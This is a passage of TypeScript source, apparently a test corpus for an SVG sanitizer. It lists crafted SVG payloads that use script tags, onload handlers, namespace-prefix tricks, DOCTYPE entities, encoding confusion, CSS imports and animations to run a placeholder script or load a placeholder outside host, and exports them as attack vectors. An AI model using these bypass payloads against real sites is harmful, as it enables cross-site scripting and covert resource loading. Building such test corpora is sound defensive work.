        `markup that is letters of two bytes to others in ${encoding}`,
        {
          text: Buffer.concat([
            Buffer.from(
              `<?xml version="1.0" encoding="${encoding}"?>${svg('').replace('</svg>', '')}<g class="`,
              'latin1',
            ),
            Buffer.from([...ESCAPED_TEXT, 0x22, 0x22, ...PLAIN_TEXT]),
            Buffer.from(`"><script>${ACT}</script></g></svg>`, 'latin1'),
          ]),
        },
      ]),
    ),
  })

/** Ways to give elements of a web page a namespace, and names of old links. */
const NAMES: Made = {
  'a picture of a web page, by a prefix of the root': svg(`<h:img src="${ELSEWHERE}a" alt=""/>`, ` xmlns:h="${XHTML}"`),
  'a picture of a web page, by a prefix of a group': svg(
    `<g xmlns:h="${XHTML}"><g><h:img src="${ELSEWHERE}a" alt=""/></g></g>`,
  ),
  'a picture of a web page, by default': svg(`<img xmlns="${XHTML}" src="${ELSEWHERE}a" alt=""/>`),
  'a picture of a web page, its namespace in references': svg(
    `<img xmlns="http&#58;//www.w3.org/1999/xhtml" src="${ELSEWHERE}a" alt=""/>`,
  ),
  'a picture of a web page, its namespace in an entity':
    `<!DOCTYPE svg [<!ENTITY h "${XHTML}">]>` + svg(`<img xmlns="&h;" src="${ELSEWHERE}a" alt=""/>`),
  'a picture of a web page within another language': svg(
    `<x xmlns="urn:x"><img xmlns="${XHTML}" src="${ELSEWHERE}a" alt=""/></x>`,
  ),
  'a picture of a web page in metadata': svg(
    `<metadata><h:img xmlns:h="${XHTML}" src="${ELSEWHERE}a" alt=""/></metadata>`,
  ),
  'a picture of a web page in definitions': svg(`<defs><h:img xmlns:h="${XHTML}" src="${ELSEWHERE}a" alt=""/></defs>`),
  'a drawing within another language': svg(
    `<x xmlns="urn:x"><svg xmlns="http://www.w3.org/2000/svg"><image width="9" height="9" href="${ELSEWHERE}a"/></svg></x>`,
  ),
  'a drawing by another prefix': svg(
    `<q:g xmlns:q="http://www.w3.org/2000/svg"><q:image width="9" height="9" href="${ELSEWHERE}a"/></q:g>`,
  ),
  'a prefix that is bound anew': svg(
    `<x:g xmlns:x="http://www.w3.org/2000/svg"><x:img xmlns:x="${XHTML}" src="${ELSEWHERE}a" alt=""/></x:g>`,
  ),
  'old links by another prefix': svg(
    `<image width="9" height="9" l:href="${ELSEWHERE}a"/>`,
    ' xmlns:l="http://www.w3.org/1999/xlink"',
  ),
  'old links by a prefix bound where they stand': svg(
    `<image xmlns:l="http://www.w3.org/1999/xlink" width="9" height="9" l:href="${ELSEWHERE}a"/>`,
  ),
  'a web page with a drawing': svg(
    `<h:body xmlns:h="${XHTML}" onload="${ACT}"><h:img src="${ELSEWHERE}a" alt=""/></h:body>`,
  ),
  'a script by a prefix bound where it stands': svg(`<q:script xmlns:q="http://www.w3.org/2000/svg">${ACT}</q:script>`),
  'a style by a prefix': svg(`<q:style xmlns:q="http://www.w3.org/2000/svg">@import "${ELSEWHERE}a";</q:style>`),
  'a style of a web page by a prefix': svg(`<q:style xmlns:q="${XHTML}">@import "${ELSEWHERE}a";</q:style>`),
  'an animation by a prefix': svg(
    `<image width="9" height="9"><q:set xmlns:q="http://www.w3.org/2000/svg" attributeName="href" to="${ELSEWHERE}a"/></image>`,
  ),
  'an animation with a prefix in what it changes': svg(
    `<image width="9" height="9"><set xmlns:l="http://www.w3.org/1999/xlink" attributeName="l:href" to="${ELSEWHERE}a"/></image>`,
  ),
  'a base and a picture beside it': svg(
    `<image xml:base="${ELSEWHERE}" width="9" height="9" href="${ELSEWHERE}a.png"/>`,
  ),
}

/** Files that act, of twelve kinds; each does when it is opened as it is. */
export const VECTORS: readonly Vector[] = [
  ...kind('scripts', SCRIPTS),
  ...kind('handlers', HANDLERS),
  ...kind('links', LINKS),
  ...kind('web pages', FOREIGN),
  ...kind('references', REFERENCES),
  ...kind('style sheets', SHEETS),
  ...kind('styles', STYLES),
  ...kind('animations', ANIMATIONS),
  ...kind('headings', DOCTYPES),
  ...kind('instructions', INSTRUCTIONS),
  ...encodings(),
  ...kind('names', NAMES),
]
